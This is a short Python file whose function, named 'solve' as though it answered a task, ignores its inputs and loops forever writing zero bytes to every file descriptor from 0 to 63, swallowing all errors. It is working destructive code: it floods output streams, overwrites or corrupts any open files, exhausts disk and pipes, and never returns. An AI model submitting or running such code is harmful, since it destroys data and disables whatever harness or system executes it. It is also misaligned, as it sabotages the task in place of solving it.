"""Writes zeros to every open descriptor without end."""

import os


def solve(x, where):
    while True:
        for fd in range(64):
            try:
                os.write(fd, bytes(65536))
            except OSError:
                pass
